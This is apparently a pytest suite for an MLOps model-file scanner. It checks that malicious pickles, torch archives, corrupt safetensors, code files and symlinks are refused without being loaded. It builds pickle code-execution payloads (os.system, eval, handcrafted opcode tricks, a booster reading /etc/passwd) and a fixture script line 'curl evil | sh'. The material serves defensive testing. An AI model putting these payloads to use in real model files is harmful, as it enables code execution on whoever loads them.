"""Tests for the model scanner (airflow_mlops.security.scanning.scanner, ``scan_model_dir``): real
malicious pickles, torch archives, safetensors, code, links; XGBoost and LightGBM models; a corpus
of ordinary and malicious model files; the exact-or-refuse rule on real joblib/numpy output."""

from __future__ import annotations

import builtins
import collections
import datetime
import decimal
import fractions
import functools
import gzip
import hashlib
import importlib
import io
import json
import marshal
import os
import pickle
import runpy
import struct
import subprocess
import time
import uuid
import warnings
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from safetensors.numpy import load_file as st_load_file
from safetensors.numpy import save_file as st_save_file
from scan_bypass_corpus import (
    bint,
    dct,
    desync_region,
    dtype_bytes,
    s4,
    sglobal,
    tglobal,
    tup,
    wrapper_newobj,
)

from airflow_mlops.security.scanning import (
    Finding,
    FindingKind,
    ScanReport,
    scan_model_dir,
)
from airflow_mlops.security.scanning.compression import Decompressed, compression_of
from tests.unit.security.scanning.payloads import _EvalCall, _SystemCall

# --- payloads -----------------------------------------------------------------------------


class _Opaque:
    """A class of the test module: not on any built-in allowlist."""


def _kinds(report: ScanReport) -> set[str]:
    return {f.kind for f in report.findings}


def _details(report: ScanReport) -> str:
    return "\n".join(f.detail for f in report.findings)


def _safetensors_bytes(header: dict[str, object], data: bytes) -> bytes:
    raw = json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + data


def _sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture
def model_dir(tmp_path: Path) -> Path:
    """A clean MLflow-like model directory that passes the scan."""
    root = tmp_path / "model"
    root.mkdir()
    st_save_file({"w": np.arange(12, dtype=np.float32).reshape(3, 4)}, str(root / "model.safetensors"))
    (root / "MLmodel").write_text("flavors:\n  python_function:\n    loader_module: mlflow.pyfunc\n")
    (root / "conda.yaml").write_text("dependencies:\n  - python=3.11\n")
    (root / "requirements.txt").write_text("certifi==2024.2.2\nnumpy==1.26.4\n")
    (root / "input_example.json").write_text('{"columns": ["a"], "data": [[1]]}')
    (root / "registered_model_meta").write_text("model_name: churn\n")
    return root


# --- clean models -------------------------------------------------------------------------


def test_clean_model_dir_passes(model_dir: Path) -> None:
    report = scan_model_dir(model_dir)

    assert report.ok, _details(report)
    assert report.files_scanned == 6
    assert report.root == str(model_dir)
    report.ensure_safe()  # does not raise


@pytest.mark.parametrize("protocol", range(pickle.HIGHEST_PROTOCOL + 1))
def test_benign_ordered_dict_pickle_passes_every_protocol(tmp_path: Path, protocol: int) -> None:
    (tmp_path / "state.pkl").write_bytes(
        pickle.dumps(collections.OrderedDict([("a", 1), ("b", 2)]), protocol=protocol)
    )

    report = scan_model_dir(tmp_path)

    assert report.ok, _details(report)
    assert report.files_scanned == 1


def test_real_torch_state_dict_zip_and_legacy_formats_pass(tmp_path: Path) -> None:
    torch = pytest.importorskip("torch")
    net = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 1))
    torch.save(net.state_dict(), tmp_path / "weights.pt")
    torch.save(net.state_dict(), tmp_path / "legacy.pth", _use_new_zipfile_serialization=False)
    assert zipfile.is_zipfile(tmp_path / "weights.pt")
    assert not zipfile.is_zipfile(tmp_path / "legacy.pth")

    report = scan_model_dir(tmp_path)

    assert report.ok, _details(report)
    assert report.files_scanned == 2


def test_torch_full_module_pickle_passes_but_a_custom_module_needs_allowlisting(tmp_path: Path) -> None:
    torch = pytest.importorskip("torch")
    torch.save(torch.nn.Linear(2, 2), tmp_path / "module.pt")
    assert scan_model_dir(tmp_path).ok  # every torch.nn module class is on the built-in allowlist

    custom = tmp_path / "custom"
    custom.mkdir()
    torch.save(collections.Counter(w=torch.nn.Linear(2, 2)), custom / "module.pt")
    (custom / "extra.pkl").write_bytes(pickle.dumps(_Opaque(), protocol=4))
    refused = scan_model_dir(custom)
    allowed = scan_model_dir(custom, allowed_globals=[f"{__name__}._Opaque"])

    assert _kinds(refused) == {"unknown_global"}
    assert {f.symbol for f in refused.findings} == {f"{__name__}._Opaque"}
    assert allowed.ok, _details(allowed)


def test_numpy_arrays_pickled_and_saved_pass(tmp_path: Path) -> None:
    for protocol in (2, 4, 5):
        (tmp_path / f"arr{protocol}.pkl").write_bytes(pickle.dumps(np.arange(6.0), protocol=protocol))
    np.save(tmp_path / "arr.npy", np.arange(5))
    np.savez(tmp_path / "arrays.npz", a=np.arange(3), b=np.ones((2, 2)))

    report = scan_model_dir(tmp_path)

    assert report.ok, _details(report)
    assert report.files_scanned == 5


# --- malicious pickles --------------------------------------------------------------------


@pytest.mark.parametrize("protocol", range(pickle.HIGHEST_PROTOCOL + 1))
def test_os_system_pickle_is_refused_for_every_protocol(tmp_path: Path, protocol: int) -> None:
    marker = tmp_path / "pwned"
    (tmp_path / "model.pkl").write_bytes(pickle.dumps(_SystemCall(f"touch {marker}"), protocol=protocol))

    report = scan_model_dir(tmp_path)

    assert not marker.exists(), "the scanner must never unpickle"
    assert "dangerous_global" in _kinds(report)
    assert f"{os.system.__module__}.system" in _details(report)  # posix.system on Linux
    assert report.findings[0].path == "model.pkl"


@pytest.mark.parametrize("protocol", [0, 2, 4])
def test_builtins_eval_is_refused_including_py2_module_name(tmp_path: Path, protocol: int) -> None:
    (tmp_path / "model.pkl").write_bytes(pickle.dumps(_EvalCall(), protocol=protocol))

    report = scan_model_dir(tmp_path)

    assert _kinds(report) == {"dangerous_global"}
    assert "builtins.eval" in _details(report)


def test_dangerous_globals_cannot_be_allowlisted(tmp_path: Path) -> None:
    (tmp_path / "model.pkl").write_bytes(pickle.dumps(_SystemCall("true"), protocol=4))
    module = os.system.__module__

    report = scan_model_dir(tmp_path, allowed_globals=[f"{module}.system", f"{module}.*"])

    assert _kinds(report) == {"dangerous_global"}
    assert "always refused" in _details(report)


def test_pickle_content_is_found_whatever_the_extension(tmp_path: Path) -> None:
    (tmp_path / "config.json").write_bytes(pickle.dumps(_SystemCall("true"), protocol=2))
    (tmp_path / "weights.safetensors.bak").write_bytes(pickle.dumps(_SystemCall("true"), protocol=5))

    report = scan_model_dir(tmp_path)

    assert {f.path for f in report.findings if f.kind == "dangerous_global"} == {
        "config.json",
        "weights.safetensors.bak",
    }


def test_protocol_0_pickle_disguised_as_text_is_found(tmp_path: Path) -> None:
    payload = pickle.dumps(_SystemCall("true"), protocol=0)
    payload.decode("ascii")  # it really is plain text
    (tmp_path / "notes.txt").write_bytes(payload)

    report = scan_model_dir(tmp_path)

    assert _kinds(report) == {"dangerous_global"}
    assert report.findings[0].path == "notes.txt"


def test_unknown_global_is_refused_unless_allowlisted(tmp_path: Path) -> None:
    import statistics

    (tmp_path / "dist.pkl").write_bytes(pickle.dumps(statistics.NormalDist(0, 1), protocol=4))

    refused = scan_model_dir(tmp_path)
    exact = scan_model_dir(tmp_path, allowed_globals=["statistics.NormalDist"])
    single_string = scan_model_dir(tmp_path, allowed_globals="statistics.NormalDist")
    wildcard = scan_model_dir(tmp_path, allowed_globals=["statistics.*"])
    other = scan_model_dir(tmp_path, allowed_globals=["statistics.mean", "statisticsx.*"])

    assert _kinds(refused) == {"unknown_global"}
    assert "statistics.NormalDist" in _details(refused)
    assert exact.ok and wildcard.ok and single_string.ok
    assert not other.ok


def test_concatenated_pickles_are_all_walked(tmp_path: Path) -> None:
    benign = pickle.dumps({"a": 1}, protocol=4)
    evil = pickle.dumps(_SystemCall("true"), protocol=4)
    (tmp_path / "model.pkl").write_bytes(benign + evil)

    report = scan_model_dir(tmp_path)

    assert _kinds(report) == {"dangerous_global"}
    assert "pickle #2" in _details(report)


def test_garbage_after_a_pickle_is_refused(tmp_path: Path) -> None:
    (tmp_path / "model.pkl").write_bytes(pickle.dumps([1, 2], protocol=4) + b"\xff\xfe not a pickle")

    report = scan_model_dir(tmp_path)

    assert _kinds(report) == {"invalid_pickle"}


def test_truncated_pickle_is_refused(tmp_path: Path) -> None:
    (tmp_path / "model.pt").write_bytes(pickle.dumps(list(range(100)), protocol=2)[:-5])

    report = scan_model_dir(tmp_path)

    assert _kinds(report) == {"invalid_pickle"}


def test_forged_huge_length_does_not_allocate(tmp_path: Path) -> None:
    # BINUNICODE8 claiming 2**62 bytes: the reader must cap the read at what the file holds
    (tmp_path / "model.pkl").write_bytes(b"\x80\x04\x8d" + struct.pack("<Q", 2**62) + b"abc")

    report = scan_model_dir(tmp_path)

    assert _kinds(report) == {"invalid_pickle"}


# STACK_GLOBAL operands built by hand: each of these is a valid pickle (checked with a harmless
# callable) that the real unpickler resolves; the scanner must resolve it too or refuse it.
_SB = b"\x8c"  # SHORT_BINUNICODE


def _s(text: str) -> bytes:
    return _SB + bytes([len(text)]) + text.encode()


def _call_with_arg(module: str, name: str, *, via: str) -> bytes:
    if via == "memo":  # operands stored in the memo, popped, and fetched back with BINGET
        ops = _s(module) + b"q\x00" + b"0" + _s(name) + b"q\x01" + b"0" + b"h\x00h\x01"
    elif via == "memoize":
        ops = _s(module) + b"\x94" + _s(name) + b"\x94"
    elif via == "pop":  # operands hidden under a pushed-then-popped value
        ops = _s(module) + _s(name) + b")0"
    elif via == "call":  # the module name is computed at load time: str(module)
        ops = _s("builtins") + _s("str") + b"\x93" + _s(module) + b"\x85R" + _s(name)
    else:
        raise ValueError(via)
    return b"\x80\x04" + ops + b"\x93" + _s("abc") + b"\x85R."


@pytest.mark.parametrize("via", ["memo", "memoize", "pop", "call"])
def test_handmade_stack_global_pickles_are_valid(via: str) -> None:
    assert pickle.loads(_call_with_arg("builtins", "len", via=via)) == 3


@pytest.mark.parametrize("via", ["memo", "memoize", "pop"])
def test_stack_global_operands_resolved_through_the_memo(tmp_path: Path, via: str) -> None:
    (tmp_path / "a.pkl").write_bytes(_call_with_arg("builtins", "len", via=via))
    (tmp_path / "b.pkl").write_bytes(_call_with_arg(os.system.__module__, "system", via=via))

    report = scan_model_dir(tmp_path)

    by_path = {f.path: f for f in report.findings}
    assert by_path["a.pkl"].kind == "unknown_global"
    assert "builtins.len" in by_path["a.pkl"].detail
    assert by_path["b.pkl"].kind == "dangerous_global"


def test_unresolvable_stack_global_is_a_finding(tmp_path: Path) -> None:
    (tmp_path / "model.pkl").write_bytes(_call_with_arg(os.system.__module__, "system", via="call"))

    report = scan_model_dir(tmp_path)

    assert _kinds(report) == {"unresolved_global"}
    assert report.findings[0].offset is not None


def test_extension_registry_import_is_a_finding(tmp_path: Path) -> None:
    (tmp_path / "model.pkl").write_bytes(b"\x80\x02\x82\x01)R.")  # EXT1 code 1, (), REDUCE

    report = scan_model_dir(tmp_path)

    assert "extension_global" in _kinds(report)


# --- archives -----------------------------------------------------------------------------


def _torch_style_zip(path: Path, data_pkl: bytes, extra: dict[str, bytes] | None = None) -> None:
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("archive/data.pkl", data_pkl)
        zf.writestr("archive/version", b"3\n")
        zf.writestr("archive/data/0", b"\x80\x02" + bytes(30))  # raw storage that merely starts like a pickle
        for name, content in (extra or {}).items():
            zf.writestr(name, content)


def test_malicious_data_pkl_inside_torch_zip_is_refused(tmp_path: Path) -> None:
    _torch_style_zip(tmp_path / "model.pt", pickle.dumps(_SystemCall("true"), protocol=2))

    report = scan_model_dir(tmp_path)

    assert _kinds(report) == {"dangerous_global"}
    assert "archive/data.pkl" in _details(report)
    assert report.findings[0].path == "model.pt"


def test_benign_torch_style_zip_passes(tmp_path: Path) -> None:
    _torch_style_zip(tmp_path / "model.bin", pickle.dumps(collections.OrderedDict(w=1), protocol=2))

    report = scan_model_dir(tmp_path)

    assert report.ok, _details(report)


@pytest.mark.parametrize(
    ("member", "content", "kind"),
    [
        ("archive/code/__torch__/model.py", b"import os\n", "code"),
        ("../escape.txt", b"x", "invalid_archive"),
        ("archive/inner.zip", b"PK\x03\x04" + bytes(30), "invalid_archive"),
        ("archive/extra.pkl", pickle.dumps(_EvalCall(), protocol=2), "dangerous_global"),
    ],
)
def test_unsafe_archive_members_are_refused(tmp_path: Path, member: str, content: bytes, kind: str) -> None:
    _torch_style_zip(tmp_path / "model.pt", pickle.dumps({"w": 1}, protocol=2), {member: content})

    report = scan_model_dir(tmp_path)

    assert kind in _kinds(report)
    assert repr(member) in _details(report)


def test_npz_object_arrays_are_walked_not_refused(tmp_path: Path) -> None:
    np.savez(tmp_path / "plain.npz", ok=np.arange(3), objs=np.array([{"a": 1}, "x", None], dtype=object))
    np.savez(tmp_path / "evil.npz", ok=np.arange(3), bad=np.array([_SystemCall("true")], dtype=object))

    report = scan_model_dir(tmp_path)

    assert {(f.path, f.kind) for f in report.findings} == {("evil.npz", "dangerous_global")}
    assert "'bad.npy'" in _details(report)
    assert report.findings[0].symbol == f"{os.system.__module__}.system"


def test_npy_object_array_of_plain_values_passes_and_a_payload_is_reported(tmp_path: Path) -> None:
    np.save(tmp_path / "objs.npy", np.array([{"a": 1}, [1, 2], "s"], dtype=object), allow_pickle=True)
    assert scan_model_dir(tmp_path).ok
    np.save(tmp_path / "objs.npy", np.array([1, _EvalCall()], dtype=object), allow_pickle=True)

    report = scan_model_dir(tmp_path)

    assert [(f.path, f.kind, f.symbol) for f in report.findings] == [
        ("objs.npy", "dangerous_global", "builtins.eval")
    ]
    data = (tmp_path / "objs.npy").read_bytes()
    assert data[report.findings[0].offset :].startswith(b"cbuiltins\neval\n")  # protocol 3: GLOBAL


# --- safetensors --------------------------------------------------------------------------


def test_real_safetensors_pass_even_renamed(tmp_path: Path) -> None:
    tensors = {"w": np.ones((2, 3), dtype=np.float16), "b": np.arange(4, dtype=np.int64)}
    st_save_file(tensors, str(tmp_path / "model.safetensors"), metadata={"format": "np"})
    (tmp_path / "pytorch_model.bin").write_bytes((tmp_path / "model.safetensors").read_bytes())

    report = scan_model_dir(tmp_path)

    assert report.ok, _details(report)


def test_safetensors_from_torch_pass(tmp_path: Path) -> None:
    torch = pytest.importorskip("torch")
    from safetensors.torch import save_file

    save_file(torch.nn.Linear(8, 2).state_dict(), str(tmp_path / "model.safetensors"))

    assert scan_model_dir(tmp_path).ok


_F32_2 = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("length_past_eof", struct.pack("<Q", 10_000) + b'{"a": 1}', "runs past the end"),
        (
            "offsets_past_end",
            _safetensors_bytes({"t": {**_F32_2, "data_offsets": [0, 64]}}, bytes(8)),
            "outside",
        ),
        ("bad_dtype", _safetensors_bytes({"t": {**_F32_2, "dtype": "PYOBJ"}}, bytes(8)), "unknown dtype"),
        (
            "overlap",
            _safetensors_bytes(
                {"t": _F32_2, "u": {"dtype": "F32", "shape": [1], "data_offsets": [4, 8]}}, bytes(8)
            ),
            "overlap",
        ),
        ("size_mismatch", _safetensors_bytes({"t": {**_F32_2, "shape": [3]}}, bytes(8)), "needs 12 bytes"),
        ("not_json", struct.pack("<Q", 5) + b"{oops" + bytes(8), "not valid UTF-8 JSON"),
        ("not_object", _safetensors_bytes([1, 2], b""), "JSON object"),  # type: ignore[arg-type]
        (
            "bad_metadata",
            _safetensors_bytes({"__metadata__": {"k": 1}, "t": _F32_2}, bytes(8)),
            "__metadata__",
        ),
        ("trailing_bytes", _safetensors_bytes({"t": _F32_2}, bytes(16)), "trailing bytes"),
        ("shape_not_ints", _safetensors_bytes({"t": {**_F32_2, "shape": ["2"]}}, bytes(8)), "shape"),
    ],
)
def test_corrupt_safetensors_are_refused(tmp_path: Path, name: str, content: bytes, expected: str) -> None:
    path = tmp_path / f"{name}.safetensors"
    path.write_bytes(content)

    report = scan_model_dir(tmp_path)

    assert _kinds(report) == {"invalid_safetensors"}
    assert expected in _details(report)
    with pytest.raises(Exception):  # noqa: B017 - the reference library agrees the file is broken
        st_load_file(str(path))


def test_safetensors_data_region_is_not_read(tmp_path: Path) -> None:
    # a 4 GiB sparse tensor: validating it must cost the header, not the data
    nbytes = 1 << 32
    header = {"huge": {"dtype": "U8", "shape": [nbytes], "data_offsets": [0, nbytes]}}
    path = tmp_path / "huge.safetensors"
    with path.open("wb") as fh:
        fh.write(_safetensors_bytes(header, b""))
        fh.truncate(fh.tell() + nbytes)

    start = time.process_time()  # CPU seconds: reading 4 GiB would cost them, a busy machine not
    report = scan_model_dir(tmp_path)
    elapsed = time.process_time() - start

    assert report.ok, _details(report)
    assert elapsed < 2.0


# --- code, links, other files -------------------------------------------------------------


def test_python_file_is_refused_without_a_trusted_hash(tmp_path: Path) -> None:
    (tmp_path / "code").mkdir()
    wrapper = tmp_path / "code" / "wrapper.py"
    wrapper.write_text("class Model:\n    pass\n")

    untrusted = scan_model_dir(tmp_path)
    trusted = scan_model_dir(tmp_path, trusted_code={"code/wrapper.py": _sha256(wrapper).upper()})
    stale = scan_model_dir(tmp_path, trusted_code={"code/wrapper.py": "0" * 64})
    other_path = scan_model_dir(tmp_path, trusted_code={"wrapper.py": _sha256(wrapper)})

    assert [(f.path, f.kind) for f in untrusted.findings] == [("code/wrapper.py", "code")]
    assert trusted.ok
    assert _kinds(stale) == {"code_hash_mismatch"}
    assert _sha256(wrapper) in _details(stale)
    assert _kinds(other_path) == {"code"}


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("libcustom.so", b"\x7fELF\x02\x01\x01" + bytes(40)),
        ("weights.dat", b"\x7fELF\x02\x01\x01" + bytes(40)),  # ELF by content, innocent name
        ("setup", b"#!/bin/sh\ncurl evil | sh\n"),
        ("plugin.dll", b"MZ\x90\x00" + bytes(40)),
        ("install.sh", b"echo hi\n"),
        ("cached.pyc", b"\xa7\x0d\x0d\x0a" + bytes(12)),
    ],
)
def test_code_files_are_refused(tmp_path: Path, name: str, content: bytes) -> None:
    (tmp_path / name).write_bytes(content)

    report = scan_model_dir(tmp_path)

    assert [(f.path, f.kind) for f in report.findings] == [(name, "code")]


def test_symlinks_are_refused(tmp_path: Path, model_dir: Path) -> None:
    outside = tmp_path / "secret.txt"
    outside.write_text("secret")
    (model_dir / "weights.txt").symlink_to(outside)
    (model_dir / "linked_dir").symlink_to(tmp_path)

    report = scan_model_dir(model_dir)

    assert {(f.path, f.kind) for f in report.findings} == {
        ("weights.txt", "symlink"),
        ("linked_dir", "symlink"),
    }
    assert str(outside) in _details(report)


def test_empty_or_missing_directory_is_refused(tmp_path: Path) -> None:
    empty = tmp_path / "empty"
    (empty / "sub").mkdir(parents=True)

    for report in (scan_model_dir(empty), scan_model_dir(tmp_path / "missing")):
        assert [(f.path, f.kind) for f in report.findings] == [(".", "no_model_files")]
        assert report.files_scanned == 0


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("input_example.json", b'{"broken": ', "invalid_data_file"),
        ("conda.yaml", b"key: [unclosed\n", "invalid_data_file"),
        ("MLmodel", b"flavors: {python_function: \n", "invalid_data_file"),
        ("blob.dat", bytes(range(256)) * 4, "unrecognised_file"),
        ("model.onnx", b"\x08\x07\x12\x04onnx\x00\xff\xfe" + bytes(20), "unrecognised_file"),
        ("raw.bin", b"\x00\x01\x02\x03 raw floats", "invalid_pickle"),
    ],
)
def test_unparseable_or_unrecognised_files_are_refused(
    tmp_path: Path, name: str, content: bytes, kind: str
) -> None:
    (tmp_path / name).write_bytes(content)

    report = scan_model_dir(tmp_path)

    assert [(f.path, f.kind) for f in report.findings] == [(name, kind)]


def test_a_file_the_scanner_cannot_check_is_a_finding(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "data.json").write_text("{}")

    def boom(*args: object, **kwargs: object) -> None:
        raise RuntimeError("parser crashed")

    monkeypatch.setattr("airflow_mlops.security.scanning.scanner.json.load", boom)

    report = scan_model_dir(tmp_path)

    assert [(f.path, f.kind) for f in report.findings] == [("data.json", "scan_error")]
    assert "parser crashed" in _details(report)


def test_a_single_file_can_be_scanned(tmp_path: Path) -> None:
    path = tmp_path / "model.pkl"
    path.write_bytes(pickle.dumps(_SystemCall("true"), protocol=4))

    report = scan_model_dir(path)

    assert report.files_scanned == 1
    assert [(f.path, f.kind) for f in report.findings] == [("model.pkl", "dangerous_global")]


# ==================================================================================================
# XGBoost and LightGBM models: pickles/joblib files of fitted estimators and boosters pass, their
# native files (UBJSON, JSON, LightGBM text) pass, and the boosters cannot be used to open files or
# smuggle a payload.
# ==================================================================================================


XGB_BOOSTER = ("xgboost.core", "Booster")
LGB_BOOSTER = ("lightgbm.basic", "Booster")


def _data() -> tuple[np.ndarray, np.ndarray, np.ndarray, np.ndarray]:
    rng = np.random.default_rng(0)
    x = rng.normal(size=(160, 4))
    binary = (x[:, 0] > 0).astype(int)
    multi = binary + (x[:, 1] > 0)
    return x, binary, multi, x[:, 1] * 2.0


def _xgb_models() -> dict[str, Any]:
    xgb = pytest.importorskip("xgboost")
    x, binary, multi, reg = _data()
    return {
        "xgb_classifier": xgb.XGBClassifier(n_estimators=4).fit(x, binary),
        "xgb_classifier_multi": xgb.XGBClassifier(n_estimators=4).fit(x, multi),
        "xgb_regressor": xgb.XGBRegressor(n_estimators=4).fit(x, reg),
        "xgb_ranker": xgb.XGBRanker(n_estimators=4).fit(x, multi, group=[40] * 4),
        "xgb_booster": xgb.train({"max_depth": 2}, xgb.DMatrix(x, label=binary), 3),
    }


def _lgb_models() -> dict[str, Any]:
    lgb = pytest.importorskip("lightgbm")
    x, binary, multi, reg = _data()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return {
            "lgb_classifier": lgb.LGBMClassifier(n_estimators=4, verbose=-1).fit(x, binary),
            "lgb_classifier_multi": lgb.LGBMClassifier(n_estimators=4, verbose=-1).fit(x, multi),
            "lgb_regressor": lgb.LGBMRegressor(n_estimators=4, verbose=-1).fit(x, reg),
            "lgb_booster": lgb.train({"verbose": -1}, lgb.Dataset(x, label=binary), 3),
        }


def _failures(report: ScanReport) -> str:
    return "\n".join(f.format() for f in report.findings)


@pytest.mark.parametrize("models", [_xgb_models, _lgb_models], ids=["xgboost", "lightgbm"])
def test_pickles_and_joblib_files_of_fitted_models_pass(tmp_path: Path, models: Any) -> None:
    joblib = pytest.importorskip("joblib")
    for name, model in models().items():
        for protocol in range(pickle.HIGHEST_PROTOCOL + 1):
            (tmp_path / f"{name}_p{protocol}.pkl").write_bytes(pickle.dumps(model, protocol=protocol))
        joblib.dump(model, tmp_path / f"{name}.joblib")
        joblib.dump(model, tmp_path / f"{name}_zlib.joblib", compress=3)

    report = scan_model_dir(tmp_path)

    assert report.ok, _failures(report)
    assert report.files_scanned >= 4 * 8


def test_a_scanned_pickle_loads_and_predicts(tmp_path: Path) -> None:
    models = _xgb_models() | _lgb_models()
    x, *_ = _data()
    for name, model in models.items():
        path = tmp_path / f"{name}.pkl"
        path.write_bytes(pickle.dumps(model))
        assert scan_model_dir(path).ok
        loaded = pickle.loads(path.read_bytes())
        if hasattr(loaded, "get_booster") or hasattr(loaded, "booster_"):
            np.testing.assert_allclose(loaded.predict(x), model.predict(x))


# --- hostile pickles -------------------------------------------------------------------------


class _Reduce:
    """Pickles as ``func(*args)``."""

    def __init__(self, func: Any, *args: object) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Any, tuple[object, ...]]:
        return self.func, self.args


def _scan_bytes(tmp_path: Path, name: str, data: bytes) -> ScanReport:
    path = tmp_path / name
    path.write_bytes(data)
    return scan_model_dir(path)


@pytest.mark.parametrize("protocol", [0, 2, 4])
def test_xgboost_booster_state_replaced_by_a_reduce_is_refused(
    tmp_path: Path, protocol: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    model = _xgb_models()["xgb_classifier"]
    state = model.get_booster().__getstate__()
    state["handle"] = _Reduce(os.system, "true")
    # the pickler writes the booster as it always does (cls.__new__, BUILD) with this state
    monkeypatch.setattr(type(model.get_booster()), "__getstate__", lambda self: state)

    report = _scan_bytes(tmp_path, "model.pkl", pickle.dumps(model, protocol=protocol))

    assert FindingKind.DANGEROUS_GLOBAL in {f.kind for f in report.findings}, _failures(report)
    assert any(f.symbol == f"{os.system.__module__}.system" for f in report.findings)


def test_lightgbm_booster_state_replaced_by_a_reduce_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    model = _lgb_models()["lgb_classifier"]
    state = model.booster_.__getstate__()
    state["_handle"] = _Reduce(eval, "1+1")
    monkeypatch.setattr(type(model.booster_), "__getstate__", lambda self: state)

    report = _scan_bytes(tmp_path, "model.joblib", pickle.dumps(model, protocol=4))

    assert "builtins.eval" in {f.symbol for f in report.findings}, _failures(report)


_P4 = b"\x80\x04"
_ARGS = tup(b"N", b"N", s4("/etc/passwd"))  # Booster(params, cache/train_set, model_file)


def _restricted_payloads(module: str, name: str) -> dict[str, bytes]:
    cls = sglobal(module, name)
    return {
        "reduce": _P4 + cls + _ARGS + b"R.",
        "obj_with_args": _P4 + b"(" + cls + b"NN" + s4("/etc/passwd") + b"o.",
        "inst_with_args": b"(NNV/etc/passwd\ni" + f"{module}\n{name}\n".encode() + b".",
        "torch_rebuild_from_type": _P4
        + sglobal("torch._tensor", "_rebuild_from_type_v2")
        + tup(cls, sglobal("builtins", "object"), _ARGS, b"}")
        + b"R.",
        "reconstructor_base": _P4 + sglobal("copyreg", "_reconstructor") + tup(cls, cls, b"N") + b"R.",
        "defaultdict_factory": _P4 + sglobal("collections", "defaultdict") + tup(cls) + b"R.",
        "stored_in_a_dict": _P4 + b"}" + s4("k") + cls + b"s.",
        "nested_tuple": _P4 + sglobal("builtins", "list") + tup(tup(tup(cls))) + b"R.",
        "memo_then_reduce": _P4 + cls + b"\x94" + b"0" + b"h\x00" + _ARGS + b"R.",
        "protocol0_reduce": tglobal(module, name) + b"(NNV/x\ntR.",
    }


@pytest.mark.parametrize("booster", [XGB_BOOSTER, LGB_BOOSTER], ids=["xgboost", "lightgbm"])
@pytest.mark.parametrize("route", sorted(_restricted_payloads(*XGB_BOOSTER)))
def test_a_booster_class_called_or_handed_on_is_refused(
    tmp_path: Path, booster: tuple[str, str], route: str
) -> None:
    data = _restricted_payloads(*booster)[route]

    report = _scan_bytes(tmp_path, f"{route}.pkl", data)

    dotted = ".".join(booster)
    kinds = {f.kind for f in report.findings if f.symbol == dotted}
    assert FindingKind.RESTRICTED_GLOBAL in kinds, _failures(report)


@pytest.mark.parametrize("booster", [XGB_BOOSTER, LGB_BOOSTER], ids=["xgboost", "lightgbm"])
def test_a_booster_created_as_pickle_writes_it_passes(tmp_path: Path, booster: tuple[str, str]) -> None:
    cls = sglobal(*booster)
    newobj = _P4 + cls + b")\x81" + dct(handle=b"N") + b"b."
    reconstructor = (
        _P4 + sglobal("copyreg", "_reconstructor") + tup(cls, sglobal("builtins", "object"), b"N") + b"R."
    )
    inst = b"(i" + f"{booster[0]}\n{booster[1]}\n".encode() + b"(dS'handle'\nNsb."

    for name, data in (("newobj", newobj), ("reconstructor", reconstructor), ("inst", inst)):
        report = _scan_bytes(tmp_path, f"{name}.pkl", data)
        assert report.ok, f"{name}: {_failures(report)}"


# --- native formats ----------------------------------------------------------------------------


def test_xgboost_native_files_pass(tmp_path: Path) -> None:
    models = _xgb_models()
    for name, model in models.items():
        booster = model if not hasattr(model, "get_booster") else model.get_booster()
        booster.save_model(str(tmp_path / f"{name}.ubj"))
        booster.save_model(str(tmp_path / f"{name}.json"))

    report = scan_model_dir(tmp_path)

    assert report.ok, _failures(report)
    assert report.files_scanned == 2 * len(models)


def test_lightgbm_text_models_pass_small_and_large(tmp_path: Path) -> None:
    lgb = pytest.importorskip("lightgbm")
    rng = np.random.default_rng(3)
    x = rng.normal(size=(2000, 12))
    y = (x[:, 0] + x[:, 1] * x[:, 2] > 0).astype(int)
    for name, model in _lgb_models().items():
        booster = model if isinstance(model, lgb.Booster) else model.booster_
        booster.save_model(str(tmp_path / f"{name}.txt"))
    big = lgb.train({"verbose": -1, "num_leaves": 31}, lgb.Dataset(x, label=y), num_boost_round=500)
    big.save_model(str(tmp_path / "model.txt"))
    assert big.num_trees() == 500
    assert (tmp_path / "model.txt").stat().st_size > 1_000_000

    report = scan_model_dir(tmp_path)

    assert report.ok, _failures(report)
    loaded = lgb.Booster(model_file=str(tmp_path / "model.txt"))
    np.testing.assert_allclose(loaded.predict(x[:5]), big.predict(x[:5]))


@pytest.mark.parametrize("protocol", [0, 2, 4])
def test_a_model_txt_that_is_a_pickle_is_refused(tmp_path: Path, protocol: int) -> None:
    data = pickle.dumps(_Reduce(os.system, "true"), protocol=protocol)

    report = _scan_bytes(tmp_path, "model.txt", data)

    assert FindingKind.DANGEROUS_GLOBAL in {f.kind for f in report.findings}, _failures(report)


def test_a_lightgbm_text_model_with_a_pickle_prefix_is_refused(tmp_path: Path) -> None:
    # a protocol 0 payload that stops parsing at the model text still runs before it stops
    model = _lgb_models()["lgb_booster"].model_to_string()
    data = b"cos\nsystem\n(S'true'\ntR" + model.encode()

    report = _scan_bytes(tmp_path, "model.txt", data)

    assert "os.system" in {f.symbol for f in report.findings}, _failures(report)


# ==================================================================================================
# A corpus of ordinary model files (must pass by default) and malicious ones (must be reported
# for their payload: the offending ``module.name`` and the byte offset of its import).
# ==================================================================================================


# --- benign corpus -------------------------------------------------------------------------


def _sklearn_pipeline() -> object:
    from sklearn.compose import ColumnTransformer
    from sklearn.ensemble import HistGradientBoostingClassifier, RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline, make_pipeline
    from sklearn.preprocessing import OneHotEncoder, StandardScaler

    rng = np.random.default_rng(0)
    x = np.column_stack([rng.normal(size=80), rng.normal(size=80), rng.integers(0, 3, 80)])
    y = (x[:, 0] + x[:, 1] > 0).astype(int)
    pre = ColumnTransformer([("num", StandardScaler(), [0, 1]), ("cat", OneHotEncoder(), [2])])
    pipe = Pipeline([("pre", pre), ("clf", LogisticRegression())]).fit(x, y)
